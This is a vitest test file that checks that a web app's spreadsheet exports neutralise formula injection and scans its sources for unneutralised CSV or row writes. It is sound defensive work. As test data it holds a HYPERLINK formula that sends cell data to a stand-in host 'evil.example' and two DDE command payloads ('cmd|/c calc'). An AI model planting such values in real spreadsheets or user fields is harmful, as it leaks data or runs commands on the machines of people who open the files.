// Every server export neutralises text that a spreadsheet would take for a formula (packages/domain
// spreadsheet.ts): the alarm export and the account export, with names stored by users; and a scan of the
// server's and the web app's sources finds no spreadsheet row or CSV file written without the one neutraliser.
import { readdirSync, readFileSync } from 'node:fs';
import { join, relative } from 'node:path';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { addDevice, adminClient, newTerminalId, userClient } from '../../gateway/test-support.ts';
import { type ApiClient, createTestServer, type TestServer } from '../../testing/harness.ts';

const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")';

async function cells(res: { rawPayload: Buffer; statusCode: number }): Promise<string[]> {
  expect(res.statusCode).toBe(200);
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
  const out: string[] = [];
  book.worksheets[0].eachRow((row) => {
    row.eachCell((cell) => {
      expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
      out.push(String(cell.value));
    });
  });
  return out;
}

describe('exports and formula injection', () => {
  let server: TestServer;
  let admin: ApiClient;

  beforeAll(async () => {
    server = await createTestServer();
    admin = await adminClient(server);
  });
  afterAll(async () => {
    await server.close();
  });

  it('alarm export: a device name and an address starting with = + - @ come out as text', async () => {
    const imei = newTerminalId('gt06');
    const id = await addDevice(server, imei, 'gt06', { userId: '1' });
    await server.ctx.db.updateTable('devices').set({ car_number: FORMULA }).where('id', '=', id).execute();
    await server.ctx.db
      .insertInto('alarms')
      .values({ device_id: id, type: 1, time: new Date(), source: 'device', address: '@SUM(1+1)*cmd|/c calc' })
      .execute();
    const res = await server.app.inject({
      method: 'POST',
      url: '/api/deviceAlarms/export',
      headers: { cookie: admin.cookie, lang: 'en' },
      payload: { terminalID: imei },
    });
    const values = await cells(res);
    expect(values).toContain(`'${FORMULA}`);
    expect(values).toContain("'@SUM(1+1)*cmd|/c calc");
    expect(values).not.toContain(FORMULA);
  });

  it('account export: a nickname and a telephone starting with = or + come out as text', async () => {
    await userClient(server, 'formula-user', 4);
    await server.ctx.db
      .updateTable('users')
      .set({ nickname: FORMULA, telephone: '+1+cmd|/c calc' })
      .where('username', '=', 'formula-user')
      .execute();
    const res = await server.app.inject({
      method: 'POST',
      url: '/api/agent/export',
      headers: { cookie: admin.cookie, lang: 'en' },
      payload: { id: '1', agentsOnly: false },
    });
    const values = await cells(res);
    expect(values).toContain(`'${FORMULA}`);
    expect(values).toContain("'+1+cmd|/c calc");
    expect(values).not.toContain(FORMULA);
  });
});

const APPS = join(import.meta.dirname, '../../../..');
/** Rows that hold no stored text: the risk point template's fixed example, the statistics export's title row. */
const FIXED_ROWS = [
  /risk\/sheet\.ts: sheet\.addRow\(\{$/,
  /stat\/export\.ts: sheet\.addRow\(columns\.map\(\(c\) => statColumnLabel\(/,
];

function sourceFiles(dir: string): string[] {
  return readdirSync(dir, { withFileTypes: true }).flatMap((e) => {
    const path = join(dir, e.name);
    if (e.isDirectory()) return e.name === 'node_modules' || e.name === 'dist' ? [] : sourceFiles(path);
    return /\.tsx?$/.test(e.name) && !/\.(test|e2e)\.tsx?$/.test(e.name) && !e.name.endsWith('.d.ts') ? [path] : [];
  });
}

/**
 * Rows written without the neutraliser: an exceljs addRow whose argument does not go through neutraliseRow /
 * neutraliseCell (or the statistics export's safeCell, which calls it), and a CSV writer (a function named …Csv, or
 * a file sending text/csv that imports none) in a file that never calls neutraliseCell.
 */
function unneutralisedWrites(path: string, source: string): string[] {
  const found: string[] = [];
  for (const m of source.matchAll(/\.addRow\(/g)) {
    const call = source.slice(m.index, m.index + 400);
    const line = source.slice(source.lastIndexOf('\n', m.index) + 1, source.indexOf('\n', m.index)).trim();
    if (/^\.addRow\(\s*(neutraliseRow\(|[\w.]+\.map\(\(?\w+\)? => (safeCell|neutraliseCell)\()/.test(call)) continue;
    if (FIXED_ROWS.some((re) => re.test(`${path}: ${line}`))) continue;
    found.push(`${path}: ${line}`);
  }
  const writesCsv = /function \w+Csv\(|const \w+Csv = /.test(source);
  const sendsCsv = /text\/csv/.test(source) && !/import \{[^}]*\b\w+Csv\b[^}]*\} from/.test(source);
  if ((writesCsv || sendsCsv) && !/neutraliseCell\(/.test(source))
    found.push(`${path}: CSV written without neutraliseCell`);
  return found;
}

describe('every export goes through the one neutraliser', () => {
  it('the scan finds rows and CSV files written without it', () => {
    const bad = [
      'sheet.addRow({ name: r.name });',
      'sheet.addRow(neutraliseRow({ name: r.name }));',
      'sheet.addRow(cols.map((c) => safeCell(r[c])));',
      'export function listCsv(rows: string[]) { return rows.join(","); }',
    ].join('\n');
    expect(unneutralisedWrites('x.ts', bad)).toEqual([
      'x.ts: sheet.addRow({ name: r.name });',
      'x.ts: CSV written without neutraliseCell',
    ]);
    expect(unneutralisedWrites('y.ts', "reply.type('text/csv').send(a.join(','))")).toEqual([
      'y.ts: CSV written without neutraliseCell',
    ]);
  });

  it('the server and the web app write none', () => {
    const files = [...sourceFiles(join(APPS, 'server/src')), ...sourceFiles(join(APPS, 'web/src'))];
    expect(files.length).toBeGreaterThan(200);
    const found = files.flatMap((f) =>
      unneutralisedWrites(relative(join(APPS, '..'), f).replace(/^apps\//, ''), readFileSync(f, 'utf8')),
    );
    expect(found).toEqual([]);
  });
});
